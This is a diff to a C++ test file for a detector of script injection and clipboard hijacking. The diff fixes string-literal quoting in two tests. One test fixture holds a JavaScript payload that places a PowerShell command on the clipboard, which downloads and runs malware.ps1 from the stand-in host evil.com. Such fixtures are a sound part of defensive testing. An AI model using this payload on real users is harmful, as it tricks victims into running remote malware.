@@ -302,7 +302,7 @@ TEST_F(ScriptInjectionTest, DetectsFunctionConstructor) {
 }
 
 TEST_F(ScriptInjectionTest, DetectsDocumentWrite) {
-    EXPECT_TRUE(StringDeobfuscator::containsScriptInjection("document.write('<script>'));
+    EXPECT_TRUE(StringDeobfuscator::containsScriptInjection("document.write('<script>')"));
 }
 
 TEST_F(ScriptInjectionTest, DetectsInnerHTML) {
@@ -482,9 +482,9 @@ TEST_F(IntegrationTest, DetectsReversedSensitiveFunction) {
 }
 
 TEST_F(IntegrationTest, DetectsComplexClipboardHijacking) {
-    std::string maliciousCode = R"(
+    std::string maliciousCode = R"JS(
         navigator.clipboard.writeText('powershell -Command "IEX(New-Object Net.WebClient).DownloadString(\'http://evil.com/malware.ps1\')"');
-    )";
+    )JS";
     
     EXPECT_TRUE(StringDeobfuscator::containsClipboardAPI(maliciousCode));
     EXPECT_TRUE(StringDeobfuscator::containsClipboardHijacking(maliciousCode));